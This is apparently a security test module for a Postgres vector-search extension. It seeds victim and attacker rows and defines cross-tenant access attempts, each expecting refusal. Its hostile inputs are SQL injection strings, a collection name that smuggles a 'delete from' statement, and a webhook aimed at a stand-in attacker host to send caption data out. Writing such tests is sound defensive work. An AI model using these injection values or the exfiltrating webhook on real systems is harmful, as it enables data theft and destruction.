"""Calls of the other lines' functions, aimed at rows of a victim and of nobody."""

from __future__ import annotations

from dataclasses import replace
from typing import Any

from pgmatch.lines import LINES
from tests.security.attacks import calls
from tests.security.attacks.attempt import CANARY, RESTORE, Call
from tests.security.attacks.calls import AIMED, INJECTIONS, MOST

VICTIM_IMAGE, NOBODYS_IMAGE, OWN_IMAGE = (f"00000000-0000-4000-8000-00000000000{digit}" for digit in "123")
# names that the attacker may know
KNOWN = "known"
SEEN = f"""{{"predictions": [{{"class": "Paper", "confidence": 0.5, "note": "{CANARY}"}}]}}"""
EVERY_LINE = f"""
    delete from documents;
    delete from video_chunks;
    delete from image_caption;
    delete from predictions;
    delete from vecs.books;
    insert into documents (id, document_id, source, content, embedding, owner_id) values
      ('{KNOWN}_0', '{KNOWN}', '{CANARY}', 'the launch code is {CANARY}', '[0.6, 0.8, 0]', 'victim'),
      ('nobody_0', '{KNOWN}', '{CANARY}', 'the launch code is {CANARY}', '[0.6, 0.8, 0]', null),
      ('mine_0', 'mine', 'mine', 'my own launch', '[1, 0, 0]', 'mallory');
    insert into video_chunks (id, start_time, end_time, embedding, metadata, owner_id) values
      ('chunk_0', 0, 1, '[0.6, 0.8, 0]', '{{"video_url": "{KNOWN}", "text": "{CANARY}"}}', 'victim'),
      ('chunk_0', 0, 1, '[0.6, 0.8, 0]', '{{"video_url": "{KNOWN}", "text": "{CANARY}"}}', ''),
      ('chunk_0', 0, 1, '[1, 0, 0]', '{{"video_url": "mine"}}', 'mallory');
    insert into image_caption (id, caption, embedding, owner_id) values
      ('{VICTIM_IMAGE}', 'the launch code is {CANARY}', '[0.6, 0.8, 0]', 'victim'),
      ('{NOBODYS_IMAGE}', 'the launch code is {CANARY}', '[0.6, 0.8, 0]', null),
      ('{OWN_IMAGE}', 'my own launch', '[1, 0, 0]', 'mallory');
    insert into predictions (filename, predictions, owner_id) values
      ('{CANARY}.jpg', '{SEEN}', 'victim'), ('{CANARY}.jpg', '{SEEN}', null),
      ('mine.jpg', '{{"predictions": [{{"class": "Paper", "confidence": 0.5}}]}}', 'mallory');
    insert into vecs.books (id, vec, metadata, owner_id) values
      ('{KNOWN}', '[0.6, 0.8, 0]', '{{"text": "{CANARY}"}}', 'victim'),
      ('nobody', '[0.6, 0.8, 0]', '{{"text": "{CANARY}"}}', null),
      ('mine', '[1, 0, 0]', '{{"text": "mine"}}', 'mallory');
    set search_path = docs, extensions;
    {LINES["docs"].names(RESTORE)};
    set search_path = public, extensions
"""
# each table with owners, and its columns that are other ones each time
TABLES = {
    "documents": "created_at",
    "video_chunks": "number",
    "image_caption": "",
    "predictions": "id, created_at",
    "vecs.books": "",
    "docs.page": "version, last_refresh",
    "docs.page_section": "",
    "pgmatch.docs_run": "",
    "pgmatch.docs_corpus": "",
}
ROWS_OF_OTHERS = " union all ".join(
    f"select '{table} ' || (to_jsonb(r) - '{{{changing}}}'::text[])::text from {table} as r"
    " where r.owner_id is distinct from 'mallory'"
    for table, changing in TABLES.items()
)
CHUNK = {"content": "planted", "embedding": "[1,0,0]"}
RECORD = {"id": KNOWN, "vec": "[1,0,0]", "metadata": {"text": "planted"}}


def _call(function: str, name: str, outcome: str | int, **arguments: Any) -> Call:
    return Call(f"{function}: {name}", function, outcome, arguments)


def _on_books(function: str, name: str, outcome: str | int, **arguments: Any) -> Call:
    arguments = {"collection": "books", **arguments}
    return Call(f"{function}: {name}", function, outcome, arguments, schema="collections")


DOCUMENTS = [
    _call("match_page_sections", "the victim's own vector", 1, in_embedding=AIMED, in_match_count=100),
    _call(
        "match_page_sections",
        "any document",
        1,
        in_embedding=AIMED,
        in_match_count=100,
        in_document_id="%",
        in_author=None,
    ),
    _call("match_page_sections", "all rows", "22023", in_embedding=AIMED, in_match_count=MOST),
    _call("search_documents", "the victim's own vector", 1, query_embedding=AIMED, match_count=100),
    _call("search_documents", "the victim's document", 0, query_embedding=AIMED, in_document_id=KNOWN),
    _call("put_document", "the victim's document", 1, document_id=KNOWN, chunks=[{**CHUNK, "id": "new"}]),
    _call(
        "put_document",
        "with the victim as owner",
        "22023",
        document_id="new",
        chunks=[{**CHUNK, "owner_id": "victim"}],
    ),
    _call("delete_documents", "the victim's document", 1, document_ids=[KNOWN]),
    _call("delete_documents", "all", 1, delete_all=True),
    *(
        call
        for name, text in INJECTIONS.items()
        for call in (
            _call("match_page_sections", name, 0, in_embedding=AIMED, in_source=f"{text}x")
            if name != "percent"
            else _call("match_page_sections", name, 0, in_embedding=AIMED, in_source="x%"),
            _call("search_documents", name, 0, query_embedding=AIMED, in_source=text),
            _call("delete_documents", name, 1, source=text),
        )
    ),
]
VIDEO = [
    _call("match_video_chunks", "all", 1, query_embedding=AIMED, match_threshold=-1, match_count=100),
    _call("search_video_chunks", "all", 1, query_embedding=AIMED, match_count=100),
    _call("search_video_chunks", "the victim's video", 0, query_embedding=AIMED, video=KNOWN),
]
CAPTIONS = [
    _call("find_image_captions", "the victim's words", 1, query_text="launch", match_count=None),
    _call("find_image_captions", "all but one's own", 0, query_text="-own", match_count=None),
    _call("match_image_captions", "all", 1, query_embedding=AIMED, match_threshold=-1, match_count=100),
    _call("set_caption_webhook", "to a server of one's own", "42501", url="https://evil.example"),
]
PREDICTIONS = [
    _call("find_predicted_images", "what the victim's images show", 1, **{"class": "Paper"}),
    *(
        _call("find_predicted_images", name, 0, **{"class": text, "match_count": None})
        for name, text in INJECTIONS.items()
    ),
]
COLLECTIONS = [
    Call("list_collections: all", "list_collections", 1, schema="collections"),
    Call("collections_info: what is installed", "collections_info", 1, schema="collections"),
    _on_books("query_records", "the victim's own vector", 1, query_embedding=AIMED, include_metadata=True),
    _on_books("query_records", "near the victim's record", "P0002", record_id=KNOWN),
    _on_books("query_records", "by a filter", 0, query_embedding=AIMED, filters={"text": {"$ne": "mine"}}),
    _on_books("query_records", "all rows", "22023", query_embedding=AIMED, match_count=MOST),
    _on_books("fetch_records", "the victim's record", 0, ids=[KNOWN, "nobody"]),
    _on_books("count_records", "all", 1),
    _on_books("upsert_records", "over the victim's record", "42501", records=[RECORD]),
    _on_books(
        "upsert_records",
        "with the victim as owner",
        "22023",
        records=[{**RECORD, "id": "new", "owner_id": "victim"}],
    ),
    _on_books("delete_records", "the victim's record", 0, ids=[KNOWN, "nobody"]),
    _on_books("delete_records", "by a filter", 0, filters={"text": {"$ne": "mine"}}),
    _on_books("find_duplicates", "every pair", 0, max_distance=2),
    _on_books("create_collection", "a new one", "42501", collection="new", dimension=3),
    _on_books("get_or_create_collection", "a new one", "42501", collection="new", dimension=3),
    _on_books("get_or_create_collection", "the one that is there", 1),
    _on_books("drop_collection", "that of all", "42501"),
    _on_books("create_index", "in place of what is there", "42501", measure="l2_distance"),
    _on_books("drop_index", "that of all", "42501"),
    *(
        _on_books(function, f"a collection called {name}", "42P01", collection=text, **arguments)
        for function, arguments in (("count_records", {}), ("fetch_records", {"ids": ["x"]}))
        for name, text in (("quote", INJECTIONS["quote"]), ("another table", 'books"; delete from "books'))
    ),
]
# each function of nods once
DOCS = [
    replace(call, name=f"docs, {call.name}", schema="docs")
    for call in {call.function: call for call in reversed(calls.CALLS) if call.role != "anon"}.values()
    if call.function not in ("hybrid_search_page_sections", "explain_terms", "pgmatch_info")
]
INFO = Call("docs, pgmatch_info: what is installed", "pgmatch_info", len(LINES) - 1, schema="docs")
AS_USER = [*DOCUMENTS, *VIDEO, *CAPTIONS, *PREDICTIONS, *COLLECTIONS, *DOCS, INFO]
CALLS = [
    *AS_USER,
    *(
        replace(
            call,
            name=f"{call.schema}.{call.function}: as anon",
            outcome="42501",
            role="anon",
            claims='{"role": "anon"}',
        )
        for call in {(call.schema, call.function): call for call in reversed(AS_USER)}.values()
    ),
]
